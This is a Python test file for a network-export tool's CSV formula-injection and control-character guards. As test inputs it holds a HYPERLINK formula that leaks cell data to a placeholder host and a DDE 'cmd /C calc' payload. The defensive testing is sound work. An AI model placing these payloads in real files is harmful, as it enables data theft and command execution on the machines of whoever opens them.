"""Text that leaves mesra is safe for its format (issue 19, item 2).

A CSV export never hands a spreadsheet a live formula, whatever path wrote it (``mesra
network --export x.csv``, ``--metrics``, the notebooks' ``export_graphs`` into
``reports/``), and the guard an import or a user wrote survives the export. A control
character is refused by ``mesra check``; a GEXF or GraphML export that could not be valid
XML fails loudly and writes nothing.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import networkx as nx
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import mesra
from mesra import MesraError, check_corpus, load_corpus
from mesra.corpus.tables import read_csv_table
from mesra.files import FORMULA_FIRST, csv_text, spreadsheet_safe
from mesra.network.export import export_graph, export_graphs
from mesra.network.territory import territory_network

FIX = Path(__file__).parent / "fixtures"
HYPERLINK = '=HYPERLINK("http://exemple.invalid/?x="&A1,"cliquez")'


def _mesra(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "mesra", *args], cwd=cwd, capture_output=True, text=True, timeout=300, check=False
    )


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")) for cell in row]


def _armed(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    return [c for c in cells if c[:1] in FORMULA_FIRST or c.lstrip(" \u00a0")[:1] in FORMULA_FIRST]


def _set_name(folder: Path, old: str, new: str) -> None:
    """Replace an actor's name in ``acteurs.csv``, quoting the cell as a spreadsheet would."""
    path = folder / "acteurs.csv"
    text = path.read_text("utf-8")
    assert old in text
    path.write_text(text.replace(old, '"' + new.replace('"', '""') + '"', 1), "utf-8")


# --- CSV: every export path guards what a spreadsheet would run ------------------------------
def test_the_guarded_form_check_accepts_comes_out_guarded_from_the_command_line(mini_dir, tmp_path):
    """``'=HYPERLINK(…)`` passes check; it came out as a live formula in --export and --metrics."""
    _set_name(mini_dir, "Coopérative Bêta", "'" + HYPERLINK)
    _set_name(mini_dir, "Collectif Gamma", "'@SOMME(1;2)")
    assert check_corpus(mini_dir) == []
    run = _mesra(
        "network", "occitanie", "--data", str(mini_dir), "--export", "x.csv", "--metrics", "m.csv", cwd=tmp_path
    )
    assert run.returncode == 0, run.stderr
    for name in ("x-noeuds.csv", "x-liens.csv", "m.csv"):
        cells = _cells(tmp_path / name)
        assert _armed(cells) == [], name
    nodes = _cells(tmp_path / "x-noeuds.csv")
    assert "'" + HYPERLINK in nodes  # the text kept, guarded as the corpus wrote it
    assert "'" + HYPERLINK in _cells(tmp_path / "m.csv")
    # mesra reads its own export back to the same name
    table = read_csv_table(tmp_path / "x-noeuds.csv", "x-noeuds.csv", [])
    assert HYPERLINK in {row["Label"] for row in table.rows}


def test_a_formula_an_import_neutralised_is_still_neutralised_in_the_exports(tmp_path):
    from mesra.importers.gogocarto import import_gogocarto

    data = json.loads((FIX / "gogocarto" / "carte-exemple.json").read_text("utf-8"))
    data["data"][0]["name"] = HYPERLINK
    source = tmp_path / "carte.json"
    source.write_text(json.dumps(data), "utf-8")
    out = tmp_path / "carte"
    import_gogocarto(source, out)
    assert "'" + HYPERLINK in _cells(out / "acteurs.csv")  # what the import wrote
    assert check_corpus(out) == []
    run = _mesra("network", "fr", "--data", str(out), "--export", "x.csv", "--metrics", "m.csv", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    for name in ("x-noeuds.csv", "x-liens.csv", "m.csv"):
        assert _armed(_cells(tmp_path / name)) == [], name
    assert "'" + HYPERLINK in _cells(tmp_path / "x-noeuds.csv")


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+33 1 00 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SOMME(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1dHYPERLINK(1)",
    ],
)
def test_the_notebooks_node_lists_are_guarded(mini_dir, tmp_path, name):
    """What notebook 03 calls (``mesra.export_graphs``) to write the batch's lists into reports/."""
    corpus = load_corpus(mini_dir)
    corpus.acteurs.loc[corpus.acteurs["acteur_id"] == "cooperative-beta", "nom"] = name
    graph = territory_network(corpus, "occitanie").graph
    written = export_graphs(graph, tmp_path / "reseau-occitanie")
    nodes = tmp_path / "reseau-occitanie-noeuds.csv"
    assert nodes in written
    cells = _cells(nodes)
    assert _armed(cells) == []
    assert "'" + name in cells
    # the XML formats carry the name as it is: Gephi runs no formula
    gexf = ElementTree.parse(tmp_path / "reseau-occitanie.gexf")
    assert name.strip() in {el.get("label", "").strip() for el in gexf.iter() if el.tag.endswith("node")}


def test_numbers_are_not_turned_into_text():
    frame = pd.DataFrame({"nom": ["-5 ans", "Alpha"], "x": [-0.5, 2.0], "n": [-3, 4]})
    assert csv_text(frame).splitlines() == ["nom,x,n", "'-5 ans,-0.5,-3", "Alpha,2.0,4"]


def test_a_column_name_is_guarded_too():
    assert csv_text(pd.DataFrame({"=1+1": ["a"]})).splitlines()[0] == "'=1+1"


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_no_text_comes_out_armed(text):
    cells = _cells_of(csv_text(pd.DataFrame({"nom": [text]})))
    assert _armed(cells) == []
    # nothing lost: the text is there, behind at most one apostrophe
    assert cells[1:] in ([text], ["'" + text]) or (text == "" and cells == ["nom"])


def _cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_spreadsheet_safe_leaves_ordinary_and_guarded_text():
    assert spreadsheet_safe("Réseau = lien") == "Réseau = lien"
    assert spreadsheet_safe("'=déjà protégé") == "'=déjà protégé"
    assert spreadsheet_safe("") == ""


# --- control characters ----------------------------------------------------------------------
def test_check_refuses_a_control_character_with_file_line_and_field(mini_dir, tmp_path):
    path = mini_dir / "acteurs.csv"
    path.write_text(path.read_text("utf-8").replace("Réseau Alpha", "Réseau\x0bAlpha", 1), "utf-8")
    run = _mesra("check", str(mini_dir), cwd=tmp_path)
    assert run.returncode == 1
    assert "acteurs.csv:2: nom: caractère de contrôle invisible (U+000B" in run.stdout
    # and the export that would have been invalid XML is never written
    for suffix in (".gexf", ".graphml"):
        run = _mesra("network", "occitanie", "--data", str(mini_dir), "--export", f"x{suffix}", cwd=tmp_path)
        assert run.returncode == 1
        assert "caractère de contrôle" in run.stdout + run.stderr
        assert not (tmp_path / f"x{suffix}").exists()


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0c", "\x1f", "\x7f", "\x85", "\ufffe"])
def test_every_control_character_is_reported(mini_dir, char):
    path = mini_dir / "personnes.csv"
    text = path.read_text("utf-8")
    name = next(line.split(",")[1] for line in text.splitlines()[1:])
    path.write_text(text.replace(name, name[:2] + char + name[2:], 1), "utf-8")
    problems = [p for p in check_corpus(mini_dir) if "caractère de contrôle" in p.message]
    if char == "\x00":  # a NUL makes the file binary: refused whole, as before
        assert any("binaire" in p.message for p in check_corpus(mini_dir))
        return
    [p] = problems
    assert (p.file, p.line, p.field) == ("personnes.csv", 2, "nom")
    assert f"U+{ord(char):04X}" in p.message


def test_tabs_and_line_ends_inside_a_cell_are_not_control_problems(mini_dir):
    path = mini_dir / "acteurs.csv"
    path.write_text(path.read_text("utf-8").replace("Réseau Alpha", '"Réseau\tAlpha\nsur deux lignes"', 1), "utf-8")
    assert [p for p in check_corpus(mini_dir) if "contrôle" in p.message] == []


def test_a_control_character_in_a_monograph_field_is_reported(mini_dir):
    path = mini_dir / "monographies" / "projet-delta.md"
    text = path.read_text("utf-8")
    path.write_text(text.replace("titre: Le projet Delta", 'titre: "Le projet\\vDelta"', 1), "utf-8")
    [p] = check_corpus(mini_dir)
    assert (p.file, p.line, p.field) == ("monographies/projet-delta.md", 3, "titre")
    assert "caractère de contrôle" in p.message


@pytest.mark.parametrize("suffix", [".gexf", ".graphml"])
@pytest.mark.parametrize("where", ["node", "edge", "graph"])
def test_an_xml_export_that_cannot_be_valid_fails_and_writes_nothing(tmp_path, suffix, where):
    g = nx.Graph()
    g.add_node("a", nom="Alpha")
    g.add_node("b", nom="Bêta")
    g.add_edge("a", "b", relation="cooperation")
    target = {"node": g.nodes["a"], "edge": g.edges["a", "b"], "graph": g.graph}[where]
    target["nom" if where == "node" else "note"] = "mal\x0bformé"
    path = tmp_path / f"reseau{suffix}"
    with pytest.raises(MesraError, match=r"export (GEXF|GraphML) impossible .*caractère de contrôle U\+000B"):
        export_graph(g, path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", [".gexf", ".graphml"])
def test_xml_exports_are_well_formed(mini_dir, tmp_path, suffix):
    net = territory_network(load_corpus(mini_dir), "occitanie")
    [path] = export_graph(net.graph, tmp_path / f"r{suffix}")
    root = ElementTree.parse(path).getroot()
    assert root.tag.endswith("gexf" if suffix == ".gexf" else "graphml")


def test_csv_export_with_a_control_character_from_a_graph_keeps_it_quoted(tmp_path):
    """CSV can hold any character: a graph built by hand still exports, guarded and quoted."""
    g = nx.Graph()
    g.add_node("a", nom="=a\x0bb")
    export_graph(g, tmp_path / "r.csv")
    assert "'=a\x0bb" in _cells(tmp_path / "r-noeuds.csv")


def test_export_graphs_is_the_api_the_notebook_uses():
    notebook = (Path(__file__).parent.parent / "notebooks" / "03-reseau-territorial.ipynb").read_text("utf-8")
    assert "mesra.export_graphs(" in notebook and mesra.export_graphs is export_graphs


def test_a_writer_error_becomes_a_french_message_and_no_file(tmp_path, monkeypatch):
    def refuse(_graph):
        raise nx.NetworkXError("type de valeur inconnu")
        yield ""  # pragma: no cover - a generator, as networkx's writers are

    monkeypatch.setattr(nx, "generate_gexf", refuse)
    with pytest.raises(MesraError, match=r"export GEXF impossible \(r\.gexf\) : type de valeur inconnu"):
        export_graph(nx.path_graph(2), tmp_path / "r.gexf")
    assert list(tmp_path.iterdir()) == []
